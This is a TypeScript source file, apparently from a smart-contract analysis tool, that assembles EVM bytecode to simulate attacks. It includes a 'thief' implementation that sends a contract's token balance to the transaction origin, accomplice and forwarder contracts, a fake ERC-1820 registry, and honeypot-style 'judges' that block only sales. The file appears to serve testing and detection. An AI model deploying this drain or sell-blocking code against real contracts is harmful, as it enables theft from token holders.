import { type Address, type Hex, hexToBytes, toPaddedHex } from '../../hex.js'
import { assemble } from '../../state/assemble.js'

/**
 * `proxiableUUID()` (EIP-1822) and `implementation()` (EIP-897, EIP-1967): what upgrade functions
 * ask of the new code.
 */
const PROXIABLE_UUID = '0x52d1902d'
const IMPLEMENTATION = '0x5c60da1b'
/** EIP-1967: keccak256("eip1967.proxy.implementation") - 1 */
const IMPLEMENTATION_SLOT = '0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc'

const REVERT = '#fd'
const RETURNDATACOPY = '#3e'
const CALLVALUE = '#34'

/**
 * A function that no honest contract has, and its answer: a contract that gives it runs our code.
 */
export const MARK = '0xa55a9e11'
export const MARK_ANSWER = 0x4173736179n

/** `onFlashLoan(address,address,uint256,uint256,bytes)`, and what it answers (ERC-3156). */
const ON_FLASH_LOAN = '0x23e30c8b'
const BORROWED = '0x439148f0bbc682ca079e46d6e2c2f0c1e3b820f1a291b069d8882abf8cf18dd9'
/** `balanceOf(address)` and `transfer(address,uint256)`, moved to the front of a word. */
const BALANCE_OF = `0x70a08231${'00'.repeat(28)}`
const TRANSFER = `0xa9059cbb${'00'.repeat(28)}`

/** Makes the call that follows the address of the contract that is called. */
const RUN = '0x52756e21'
/** Where the contract is noted that is being called: no compiler has a variable there. */
const CALLED = '0x52756e2152756e21'
/** Has it hand on what it has of the contract that follows, while it is calling that. */
const LEND = '0x4c656e64'
/** The selector of a word. */
const FIRST_BYTES = `0xffffffff${'00'.repeat(28)}`

/** Call data by which the thief calls `target` itself. */
export const runBy = (target: Address, input: Hex): Hex => `${RUN}${target.slice(2).padStart(64, '0')}${input.slice(2)}`

/**
 * Logic as a thief would install it: refuses everything, but passes for an implementation, and for
 * a borrower that hands on all it is lent. Where a contract that it calls calls it meanwhile, it
 * hands on all that it has there, and answers as receivers do (ERC-677, ERC-1363).
 */
export const HOSTILE_CODE = hexToBytes(
  assemble(`
    0x0 CALLDATALOAD 0xe0 SHR
    DUP1 ${PROXIABLE_UUID} EQ @uuid JUMPI
    DUP1 ${IMPLEMENTATION} EQ @self JUMPI
    DUP1 ${ON_FLASH_LOAN} EQ @borrow JUMPI
    DUP1 ${RUN} EQ @run JUMPI
    DUP1 ${LEND} EQ @lend JUMPI
    ${MARK} EQ @mark JUMPI
    ${CALLED} SLOAD CALLER EQ @receive JUMPI
    refuse: 0x0 0x0 ${REVERT}
    uuid: ${IMPLEMENTATION_SLOT} 0x0 MSTORE 0x20 0x0 RETURN
    self: ADDRESS 0x0 MSTORE 0x20 0x0 RETURN
    borrow: ${BORROWED} CALLER @hand JUMP
    lend: 0x0 0x4 CALLDATALOAD DUP1 ${CALLED} SLOAD EQ ISZERO @refuse JUMPI
    0x0 ${CALLED} SSTORE @hand JUMP
    receive: 0x0 ${CALLED} SSTORE 0x0 CALLDATALOAD ${FIRST_BYTES} AND CALLER
    hand: ${BALANCE_OF} 0x0 MSTORE ADDRESS 0x4 MSTORE
    0x20 0x0 0x24 0x0 DUP5 GAS STATICCALL POP 0x0 MLOAD 0x24 MSTORE
    ${TRANSFER} 0x0 MSTORE ORIGIN 0x4 MSTORE
    0x0 0x0 0x44 0x0 0x0 DUP6 GAS CALL POP POP
    0x0 MSTORE 0x20 0x0 RETURN
    run: 0x4 CALLDATALOAD ${CALLED} SSTORE
    0x24 CALLDATASIZE SUB 0x24 0x0 CALLDATACOPY
    0x0 0x0 0x24 CALLDATASIZE SUB 0x0 0x0 0x4 CALLDATALOAD GAS CALL
    ISZERO @refuse JUMPI
    0x0 ${CALLED} SSTORE STOP
    mark: ${toPaddedHex(MARK_ANSWER, 5)} 0x0 MSTORE 0x20 0x0 RETURN`),
)

/**
 * Code of a receiver that, called back, has `partner` hand on what that has of the caller, and
 * answers as receivers do: for contracts that call only others than who called them.
 */
export const accompliceOf = (partner: Address): Uint8Array =>
  hexToBytes(
    assemble(`
      0x0 CALLDATALOAD ${FIRST_BYTES} AND
      ${LEND}${'00'.repeat(28)} 0x0 MSTORE CALLER 0x4 MSTORE
      0x0 0x0 0x24 0x0 0x0 ${partner} GAS CALL POP
      0x0 MSTORE 0x20 0x0 RETURN`),
  )

/**
 * What a judge answers where it refuses nothing: whether that means yes or no is the token's
 * affair.
 */
const ANSWERS = [1n, 0n] as const
/**
 * A question that names neither the seller nor the pool is not about a sale: it asks for the
 * contract that is to be asked, and is answered with the judge's own address.
 */
const ITSELF = 'itself' as const

/**
 * Contracts that refuse sells alone, for tokens that ask another contract about each transfer: each
 * tells a sale from a purchase by what it is asked. The first by the order in which seller and pool
 * stand in the question, the second by who has any of the token.
 */
export const listJudges = (pool: Address, token: Address): Uint8Array[] =>
  ([...ANSWERS, ITSELF] as const).flatMap((answer) =>
    [byOrder(pool), byBalance(pool, token)].map((rule) => judge(rule, answer, pool)),
  )

/**
 * Goes through the words of a question, with one word of its own below the place; `rule` finds the
 * word on top.
 */
const judge = (rule: string, answer: 0n | 1n | typeof ITSELF, pool: Address) => {
  const said = [0, 1, 2, 3].map((word) => `DUP1 0x${(word * 32).toString(16)} MSTORE`)
  return hexToBytes(
    assemble(`
      0x0 0x4
      loop: CALLDATASIZE DUP2 LT ISZERO @done JUMPI
      DUP1 CALLDATALOAD
      ${rule}
      next: 0x20 ADD @loop JUMP
      refuse: 0x0 0x0 ${REVERT}
      done: ${answer === ITSELF ? itselfOrYes(pool) : `0x${answer.toString(16)}`}
      say: ${said.join(' ')} 0x80 0x0 RETURN`),
  )
}

const itselfOrYes = (pool: Address) => `
  0x4
  again: CALLDATASIZE DUP2 LT ISZERO @unnamed JUMPI
  DUP1 CALLDATALOAD DUP1 ${pool} EQ SWAP1 ORIGIN EQ OR @named JUMPI
  0x20 ADD @again JUMP
  unnamed: ADDRESS @say JUMP
  named: 0x1`

const byOrder = (pool: Address) => `
  DUP1 ORIGIN EQ DUP4 OR SWAP3 POP
  ${pool} EQ DUP3 AND @refuse JUMPI`

const byBalance = (pool: Address, token: Address) => `
  DUP1 ${pool} EQ DUP2 ${token} EQ OR @skip JUMPI
  ${BALANCE_OF} 0x0 MSTORE 0x4 MSTORE
  0x20 0x0 0x24 0x0 ${token} GAS STATICCALL ISZERO @next JUMPI
  0x0 MLOAD @refuse JUMPI
  @next JUMP
  skip: POP`

/**
 * Code that calls `target` with whatever it is called and paid with, and answers what it is
 * answered: lets a contract act.
 */
export function forwarderTo(target: Address): Uint8Array {
  return hexToBytes(
    assemble(`
      CALLDATASIZE 0x0 0x0 CALLDATACOPY
      0x0 0x0 CALLDATASIZE 0x0 ${CALLVALUE} ${target} GAS CALL
      RETURNDATASIZE 0x0 0x0 ${RETURNDATACOPY}
      @done JUMPI
      RETURNDATASIZE 0x0 ${REVERT}
      done: RETURNDATASIZE 0x0 RETURN`),
  )
}

/**
 * The registry of ERC-1820 once accounts have registered in it, as each may do for itself alone:
 * of `own`, which registered nothing, it names none to be told, and of all others `hook`.
 */
export function registryOfOthers(own: Iterable<Address>, hook: Address): Uint8Array {
  const asked = [...own].map((account) => `DUP1 ${account} EQ @none JUMPI`)
  return hexToBytes(
    assemble(`
      0x4 CALLDATALOAD ${asked.join(' ')}
      ${hook} 0x0 MSTORE 0x20 0x0 RETURN
      none: 0x0 0x0 MSTORE 0x20 0x0 RETURN`),
  )
}
